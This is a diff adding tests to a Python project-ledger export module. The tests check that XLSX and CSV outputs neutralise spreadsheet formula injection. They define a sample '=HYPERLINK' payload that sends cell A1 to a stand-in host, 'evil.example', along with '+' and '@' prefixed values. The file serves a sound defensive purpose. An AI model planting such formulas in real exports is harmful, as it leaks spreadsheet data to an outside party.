@@ -11,7 +11,9 @@ from decimal import Decimal
 from projections.forms.csv import csv_bytes
 from projections.forms.fill import fill
 from projections.forms.xlsx import HEADER_ROW, display_width, workbook_bytes
-from tests.forms.conftest import workbook
+from domain.values import SHANGHAI
+from projections.forms.safety import unguard_csv
+from tests.forms.conftest import LIAISON, workbook
 
 
 def filled_book(ledger, kind: str, period: str = "2021-09"):
@@ -107,3 +109,36 @@ def test_the_csv_is_utf8_with_a_bom_and_holds_the_first_table_alone(september):
     assert rows[1][6] == "12000.00" and rows[1][12] == "2021-09-30"
     assert rows[1][7] == "2021-09-08 完成可研报告编制\n2021-09-15 进入在谈：首轮商务洽谈\n2021-09-15 与投资方开展首轮商务洽谈"
     assert b"\r\n" in content
+
+
+def this_month(ledger) -> str:
+    return ledger.clock().astimezone(SHANGHAI).strftime("%Y-%m")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+
+
+def test_ledger_text_that_looks_like_a_formula_is_written_as_text_and_numbers_stay_numbers(september):
+    september.update_project(LIAISON, "HW-2021-001", name=EVIL, investor="+86 某投资方")
+    book = filled_book(september, "project_status", this_month(september))
+
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    named = [c for c in cells if c.value == EVIL]
+    assert named and all(c.data_type == "s" for c in named)
+    ws = book["汇总"]
+    columns = header(ws)
+    money = ws.cell(HEADER_ROW + 1, columns.index("计划总投资（万元）") + 1)
+    assert money.data_type == "n" and money.value == 12000
+
+
+def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe_and_reads_back_unchanged(september):
+    september.update_project(LIAISON, "HW-2021-001", name=EVIL, investor="@某投资方")
+    content = csv_bytes(fill(september, "HW", "project_status", this_month(september)).overview)
+
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
+    cells = [value for row in rows for value in row]
+    assert "'" + EVIL in cells and "'@某投资方" in cells
+    assert not [value for value in cells if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "12000.00" in cells  # an amount is no text: it keeps its plain digits
+    assert [unguard_csv(v) for v in cells if v.startswith("'")] == [EVIL, "@某投资方"]
